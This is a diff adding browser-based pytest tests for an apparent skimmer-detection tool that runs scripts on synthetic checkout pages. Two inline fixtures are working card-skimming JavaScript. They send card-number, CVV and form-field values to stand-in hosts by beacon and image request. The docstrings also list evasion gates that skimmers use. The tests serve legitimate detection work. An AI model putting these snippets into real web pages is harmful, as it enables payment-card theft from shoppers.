@@ -1,0 +1,101 @@
+"""Detonation in a real browser: files run on the synthetic checkout with the canary shopper.
+
+Each gate a skimmer hides behind — the URL, a long delay, a once-per-visitor cookie, elements
+of another platform's checkout, an automation check — has a fixture it must be caught through;
+hard negatives stay clean; the pages themselves produce nothing.
+"""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import pytest
+import pytest_asyncio
+
+from skimscan.detonate import DetonationOptions, Detonator
+from skimscan.models import Confidence, Severity, Verdict
+from skimscan.pipeline import Engine, EngineOptions
+
+pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]
+FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "detonate"
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def detonator() -> AsyncIterator[Detonator]:
+    engine = Engine(EngineOptions(use_disk_cache=False, jobs=1))
+    async with Detonator(engine, DetonationOptions(max_pages=2)) as running:
+        yield running
+
+
+def fixture(name: str) -> str:
+    return next(FIXTURES.glob(f"*/{name}*.js")).read_text()
+
+
+def exfiltration(result):  # type: ignore[no-untyped-def]
+    return [f for f in result.findings if f.rule == "canary-exfiltration"]
+
+
+@pytest.mark.parametrize("name", ["01_url_gate", "02_delay_90s", "03_delay_10min",
+                                  "04_once_per_visitor_cookie", "06_webdriver_check"])
+async def test_gated_skimmers_are_caught(detonator: Detonator, name: str) -> None:
+    result = await detonator.detonate(f"{name}.js", fixture(name))
+    assert result.verdict is Verdict.MALICIOUS, result
+    (found, *_) = exfiltration(result)
+    assert found.script == "s1" and found.severity is Severity.CRITICAL
+    assert "detonation" in found.tags and found.evidence["quarantined"] is True
+
+
+async def test_the_url_gate_is_real(detonator: Detonator) -> None:
+    """On a page whose URL the kit does not look for, it does nothing: template URLs matter."""
+    result = await detonator.detonate("01.js", fixture("01_url_gate"), templates=["prestashop"])
+    assert result.verdict is not Verdict.MALICIOUS
+    assert [p.template for p in result.pages] == ["prestashop"]
+
+
+async def test_the_clock_is_advanced_past_long_delays(detonator: Detonator) -> None:
+    code = ("setTimeout(function () { document.addEventListener('change', function (e) {"
+            " new Image().src = 'https://late-drop.test/p?d=' + btoa(e.target.value); }, true);"
+            " }, 600000);")
+    result = await detonator.detonate("late.js", code, templates=["custom-autocomplete"])
+    assert result.verdict is Verdict.MALICIOUS
+    assert any("advanced the page clock" in line for line in result.pages[0].interaction)
+
+
+async def test_missing_elements_are_created_and_the_finding_says_so(
+        detonator: Detonator) -> None:
+    """A kit for one payment extension reads its exact field ids at the pay click; no template
+    has them, so the sandbox creates them — and caps what it proves."""
+    code = """document.addEventListener('click', function () {
+      var n = document.getElementById('sagepaydirectpro_cc_number'),
+          c = document.getElementById('sagepaydirectpro_cc_cid');
+      if (!n || !n.value) return;
+      navigator.sendBeacon('https://sage-cdn-stats.test/b', JSON.stringify({n: n.value,
+        c: c && c.value}));
+    }, true);"""
+    result = await detonator.detonate("sage.js", code, templates=["custom-autocomplete"])
+    (found,) = exfiltration(result)
+    assert (found.severity, found.confidence) == (Severity.HIGH, Confidence.MEDIUM)
+    assert "#sagepaydirectpro_cc_number (pan)" in found.evidence["synthesised"]
+    assert result.pages[0].synthesised and result.verdict is Verdict.MALICIOUS
+
+
+async def test_hard_negatives_stay_clean(detonator: Detonator) -> None:
+    for name in ("b01_processor_sdk", "b02_card_brand_icon", "b07_autofill_formatter"):
+        result = await detonator.detonate(f"{name}.js", fixture(name))
+        assert result.verdict is Verdict.CLEAN, (name, result.findings)
+
+
+async def test_the_templates_themselves_are_clean(detonator: Detonator) -> None:
+    names = [t.name for t in detonator.checkout.templates]
+    result = await detonator.detonate("empty.js", "/* nothing */", templates=names)
+    assert result.findings == () and result.verdict is Verdict.CLEAN
+    assert len(result.pages) == len(names)
+    assert all(p.verdict is Verdict.CLEAN and p.error is None for p in result.pages), \
+        [(p.template, p.error) for p in result.pages]
+
+
+async def test_a_file_that_hangs_its_page_is_an_error_not_clean(detonator: Detonator) -> None:
+    result = await detonator.detonate("busy.js", "while (true) {}",
+                                      templates=["custom-autocomplete"])
+    assert result.verdict is Verdict.ERROR and result.error
